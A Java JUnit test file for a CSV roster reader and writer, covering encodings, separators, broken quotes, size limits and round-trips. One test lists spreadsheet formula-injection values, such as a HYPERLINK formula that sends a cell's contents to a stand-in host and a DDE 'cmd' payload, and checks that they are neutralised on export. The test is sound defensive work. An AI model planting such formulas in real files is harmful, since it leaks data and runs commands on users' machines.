package io.lianluo.registry.roster.file;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.lianluo.domain.Fault;
import io.lianluo.domain.InvalidInput;
import io.lianluo.registry.roster.Column;
import io.lianluo.registry.roster.RosterLine;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Comma-separated values come in as every program of an office writes them. */
class CsvReaderTest {

    private static final String TWO = "unit,v-1,示例甲单位\nunit,v-2,示例乙单位\n";

    @ParameterizedTest
    @ValueSource(strings = {
        "\uFEFF\"type\",\"unit\",\"unit_name\"\r\n\"unit\",\"v-1\",\"示例甲单位\"\r\n\"unit\",\"v-2\",\"示例乙单位\"\r\n",
        "\uFEFF\uFEFF\"type\",unit,unit_name\n" + TWO,
        "sep=,\ntype,unit,unit_name\n" + TWO,
        "\uFEFFsep=,\r\ntype,unit,unit_name\r\n" + TWO,
        "\"sep=;\"\ntype;unit;unit_name\nunit;v-1;示例甲单位\nunit;v-2;示例乙单位\n",
        "sep=|\ntype|unit|unit_name\nunit|v-1|示例甲单位\nunit|v-2|示例乙单位\n",
        "type;unit;unit_name\nunit;v-1;示例甲单位\nunit;v-2;示例乙单位\n",
        "type\tunit\tunit_name\nunit\tv-1\t示例甲单位\nunit\tv-2\t示例乙单位",
        "\n\n  ,,\n\u00A0,\u3000,\ntype,unit,unit_name\n" + TWO,
        " type , unit\u00A0,\u3000unit_name \n" + TWO,
        "\u200Btype,\u2060unit,unit_\u200Dname\n" + TWO,
        "ｔｙｐｅ,Ｕｎｉｔ,UNIT_NAME\n" + TWO,
        "\"type\" , \"unit\",  \"unit_name\"\n" + TWO,
        "类型,单位\n代码,单位名称\n" + TWO,
        "\"类型\",\"单位\n代码\",\"单位 名称\"\n" + TWO,
        "type,unit,unit_name\runit,v-1,示例甲单位\runit,v-2,示例乙单位\r",
        "type,unit,unit_name\r\nunit,v-1,示例甲单位\nunit,v-2,示例乙单位\r",
        "type,unit,unit_name,,\nunit,v-1,示例甲单位,,,,\n,,\nunit,v-2,示例乙单位,,\n",
        "type,unit,unit_name\nunit,\u00A0v-1\u200B, \"示例甲单位\"\nunit,v-2\t,示例乙单位\u3000",
    })
    void theSameRosterInManyForms(String text) {
        if (text.startsWith("类型")) {
            assertThatThrownBy(() -> Read.csv(text)).as("a line break that nothing quotes ends the line").isInstanceOf(InvalidInput.class);
            return;
        }
        Read read = Read.csv(text);
        assertThat(read.faults()).isEmpty();
        assertThat(read.column(Column.UNIT)).containsExactly("v-1", "v-2");
        assertThat(read.column(Column.UNIT_NAME)).containsExactly("示例甲单位", "示例乙单位");
    }

    @ParameterizedTest
    @CsvSource({"UTF-8", "GB18030", "UTF-16LE", "UTF-16BE"})
    void quotedNamesBehindAMarkAreNamesInEveryEncoding(String charset) {
        Read read = Read.of(RosterFile.CSV, ("\uFEFF\"type\",\"unit\"\n\"unit\",\"v-1\"\n").getBytes(Charset.forName(charset)));
        assertThat(read.column(Column.UNIT)).containsExactly("v-1");
        assertThat(read.encoding()).isEqualTo(charset);
    }

    @Test
    void linesKeepTheirNumbersInTheFile() {
        assertThat(Read.csv("sep=,\n\ntype,unit\nunit,v-1\n\nunit,\"v-\n2\"\nunit,v-3\n").lines()).extracting(RosterLine::number).containsExactly(4L, 6L, 8L);
    }

    @Test
    void moreCellsThanColumnsAreAFaultOfTheirLineAlone() {
        Read read = Read.csv("type,unit,unit_name,since,address\n"
                + "unit,v04-1,示例丁一单位,2026-07-01,示例省示例市,示例路1号,3栋\n"
                + "unit,v04-2,示例丁二单位,2026-07-01,\"示例省示例市,示例路2号\"\n");
        assertThat(read.faults()).containsExactly("2 address roster-cells-surplus");
        assertThat(read.mentioned()).containsExactly(List.of(7, 5));
        assertThat(read.lines().getLast().get(Column.ADDRESS)).isEqualTo("示例省示例市,示例路2号");
    }

    @Test
    void fewerCellsThanColumnsAreAFaultOfTheirLineAlone() {
        Read read = Read.csv("type,unit,unit_name,since\nunit,v-1,示例\nunit,v-2,示例,\n");
        assertThat(read.faults()).containsExactly("2 since roster-cells-missing");
        assertThat(read.mentioned()).containsExactly(List.of(3, 4));
    }

    @ParameterizedTest
    @CsvSource({"0xFFFD,replacement-character", "0,control-character", "7,control-character", "0x85,control-character", "0x378,unassigned-character",
        "0xFFFF,unassigned-character", "0x50000,unassigned-character"})
    void aDamagedCharacterIsAFaultOfItsCell(String code, String rule) {
        Read read = Read.csv("type,unit,unit_name\nunit,v-1,示例" + Character.toString(Integer.decode(code)) + "单位\nunit,v-2,示例乙单位\n");
        assertThat(read.faults()).containsExactly("2 unit_name " + rule);
        assertThat(read.mentioned()).containsExactly(List.of(3));
    }

    @Test
    void aQuoteThatIsWrongInALateLineTakesInNothing(@TempDir Path directory) throws IOException {
        StringBuilder text = new StringBuilder("type,unit,unit_name\n");
        for (int i = 1; i <= 700; i++) {
            text.append(i == 651 ? "unit,v05-651,\"示例戊\"六五一单位\n" : "unit,v05-%d,示例戊%d单位\n".formatted(i, i));
        }
        Path file = Files.writeString(directory.resolve("roster.csv"), text);
        assertThatExceptionOfType(InvalidInput.class).as("before anything is taken in").isThrownBy(() -> RosterFile.CSV.check(file, null))
                .returns(List.of(new Fault("file", "roster-not-csv", List.of(652L))), InvalidInput::faults);
    }

    @ParameterizedTest
    @ValueSource(strings = {"type,unit,unit_name\nunit,v-1,\"示例", "type,unit,unit_name\nunit,v-1,\"示例\nunit,v-2,示例\n", "type,unit,unit_name\nunit,v-1,\"a\" b\n"})
    void aQuoteThatIsNeverClosedIsTold(String text) {
        assertThat(refusal(text)).isEqualTo("roster-not-csv");
    }

    @Test
    void aQuoteThatSwallowsOtherLinesIsTold() {
        Read read = Read.csv("type,unit,unit_name,address\nunit,v-1,\"示例,示例路\nunit,v-2,示例乙,\"\"\",示例路\n");
        assertThat(read.faults()).containsExactly("2 unit_name quote-not-closed");
        assertThat(Read.csv("type,unit,address\nunit,v-1,\"示例省\n示例路, 3 号\"\n").faults()).as("an address on two lines").isEmpty();
    }

    @Test
    void aFileOfCommasTakesNoMemory() {
        assertThat(refusal(",".repeat(25 << 20))).isEqualTo("roster-line-too-long");
        assertThat(refusal("type,unit\n" + ",".repeat(1 << 20))).isEqualTo("roster-line-too-long");
        assertThat(refusal("type,unit\nunit,\"" + "x\n".repeat(1 << 20))).isEqualTo("roster-line-too-long");
        assertThat(Read.csv("type,unit\nunit,v-1" + ",".repeat(50_000) + "\n").faults()).as("cells that a spreadsheet left").isEmpty();
        assertThat(Read.csv("type,unit\nunit," + "x".repeat(40_000) + "\n").faults()).containsExactly("2 unit cell-too-long");
    }

    @Test
    void aWorkbookThatIsSentAsTextIsToldSo() {
        assertThat(refusal("PK\u0003\u0004rest")).isEqualTo("roster-workbook-as-csv");
        assertThat(refusal("")).isEqualTo("roster-empty");
        assertThat(refusal("\n , ,\n")).isEqualTo("roster-empty");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://sample.example/?x=\"&B2,\"示例\")", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+86示例", "-2+3", "＝1", "＋1", "－1", "＠示例"})
    void whatASpreadsheetWouldRunIsHarmlessAndComesBack(String text) throws IOException {
        for (RosterWriter writer : RosterWriter.values()) {
            assertThat(roundTrip(writer, text)).isEqualTo(text);
            assertThat(roundTrip(writer, "'" + text)).isEqualTo("'" + text);
            assertThat(roundTrip(writer, "''" + text)).isEqualTo("''" + text);
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvTable table = CsvTable.begin(out, Stream.of("line"));
        table.line(Stream.of(text));
        table.flush();
        assertThat(out.toString(StandardCharsets.UTF_8)).contains("'" + text.replace("\"", "\"\""));
    }

    @ParameterizedTest
    @ValueSource(strings = {"'示例", "示例 = 1", "_x0041_", "示例_x000A_示例", "a\"b", "a,b;c", "sep=,", "'"})
    void otherTextComesBackAsItWas(String text) throws IOException {
        for (RosterWriter writer : RosterWriter.values()) {
            assertThat(roundTrip(writer, text)).isEqualTo(text);
        }
    }

    /** Two thousand texts of all that could go wrong and that a unit may be called; always the same ones, so that a failure comes again. */
    @ParameterizedTest
    @EnumSource(RosterWriter.class)
    void anyTextComesBackAsItWas(RosterWriter writer) throws IOException {
        Random random = new Random(2026);
        String[] pieces = {"'", "=", "+", "-", "@", "＝", "＠", "\"", ",", ";", " ", "_x0041_", "_", "示", "𠮷", "a", "0", "|"};
        List<String> texts = Stream.generate(() -> Blanks.strip(random.ints(1 + random.nextInt(6), 0, pieces.length).mapToObj(i -> pieces[i]).collect(Collectors.joining())))
                .filter(text -> !text.isEmpty()).limit(2_000).toList();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.write(out, List.of(Column.TYPE, Column.UNIT, Column.UNIT_NAME), then -> texts.forEach(text ->
                then.accept(new RosterLine(2, Map.of(Column.TYPE, "unit", Column.UNIT, "v-1", Column.UNIT_NAME, text)))));
        Read read = Read.of(writer == RosterWriter.CSV ? RosterFile.CSV : RosterFile.XLSX, out.toByteArray());
        assertThat(read.faults()).isEmpty();
        assertThat(read.column(Column.UNIT_NAME)).isEqualTo(texts);
    }

    private static String roundTrip(RosterWriter writer, String text) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.write(out, List.of(Column.TYPE, Column.UNIT, Column.UNIT_NAME),
                then -> then.accept(new RosterLine(2, Map.of(Column.TYPE, "unit", Column.UNIT, "v-1", Column.UNIT_NAME, text))));
        Read read = Read.of(writer == RosterWriter.CSV ? RosterFile.CSV : RosterFile.XLSX, out.toByteArray());
        assertThat(read.faults()).isEmpty();
        return read.lines().getFirst().get(Column.UNIT_NAME);
    }

    private static String refusal(String text) {
        return assertThatExceptionOfType(InvalidInput.class).isThrownBy(() -> Read.csv(text)).actual().faults().getFirst().rule();
    }
}
